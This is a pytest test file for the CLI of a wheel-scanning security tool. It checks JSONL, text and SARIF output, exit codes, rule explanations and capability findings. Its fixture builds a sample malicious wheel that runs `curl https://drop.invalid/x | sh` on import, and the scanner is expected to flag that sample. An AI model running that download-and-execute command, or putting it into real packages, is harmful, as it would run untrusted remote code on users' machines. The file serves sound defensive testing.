"""``assay scan``, ``assay rules`` and ``assay capabilities`` as a user meets them: forms, exit codes, broken inputs."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest

from scanner.cli import main


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """One malicious wheel, one clean one and one that is no archive."""
    for name, code in (
        ("bad", "import os\nos.system('curl https://drop.invalid/x | sh')\n"),
        ("good", "import requests\ndef get(url):\n    return requests.get(url)\n"),
    ):
        with zipfile.ZipFile(tmp_path / f"{name}-1.0-py3-none-any.whl", "w") as archive:
            archive.writestr(f"{name}/__init__.py", code)
    (tmp_path / "broken-1.0-py3-none-any.whl").write_bytes(b"nothing of use")
    return tmp_path


def test_json_lines_give_one_object_for_each_artifact(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", str(folder), "--format", "jsonl", "--workers", "1"]) == 1
    objects = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(one["name"], one["verdict"]) for one in objects] == [
        ("bad", "malicious"),
        ("broken", "error"),
        ("good", "clean"),
    ]
    for one in objects:
        assert {"path", "name", "version", "verdict", "deciding_rules", "findings", "capabilities"} <= one.keys()
        assert {"coverage", "seconds"} <= one.keys()
    assert objects[0]["deciding_rules"] == ["shell-download-and-run"]
    assert "archive" in objects[1]["error"]
    assert [one["name"] for one in objects[2]["capabilities"]] == ["network"]


def test_text_shows_the_line_as_a_compiler_does(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", str(folder / "bad-1.0-py3-none-any.whl")]) == 1
    out = capsys.readouterr().out
    assert "critical[shell-download-and-run]" in out
    assert "--> bad-1.0-py3-none-any.whl!/bad/__init__.py:2" in out
    assert "2 |> os.system('curl https://drop.invalid/x | sh')" in out


def test_sarif_names_every_rule_that_it_uses(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    main(["scan", str(folder), "--format", "sarif", "--workers", "1"])
    run = json.loads(capsys.readouterr().out)["runs"][0]
    rules = {one["id"] for one in run["tool"]["driver"]["rules"]}
    assert run["results"]
    assert {one["ruleId"] for one in run["results"]} <= rules


@pytest.mark.parametrize(
    ("name", "fail_on", "code"),
    [("bad", "never", 0), ("bad", "malicious", 1), ("good", "suspicious", 0), ("broken", "suspicious", 3)],
)
def test_exit_codes(folder: Path, name: str, fail_on: str, code: int, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", str(folder / f"{name}-1.0-py3-none-any.whl"), "--fail-on", fail_on]) == code
    assert name in capsys.readouterr().out


def test_what_is_not_there_is_said(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["scan", "no-such-file"]) == 2
    assert "no such file" in capsys.readouterr().err


def test_a_rule_is_explained(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["rules"]) == 0
    listed = capsys.readouterr().out
    assert "reverse-shell" in listed
    assert main(["rules", "explain", "reverse-shell"]) == 0
    page = capsys.readouterr().out
    for heading in ("What it finds", "Why it is bad", "What honest code does"):
        assert heading in page


def test_capabilities_come_with_the_line_that_proves_each(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["capabilities", str(folder / "good-1.0-py3-none-any.whl"), "--format", "json"]) == 0
    found = json.loads(capsys.readouterr().out)[0]["capabilities"]
    assert found == [{"name": "network", "proof": "good/__init__.py:1: import requests"}]
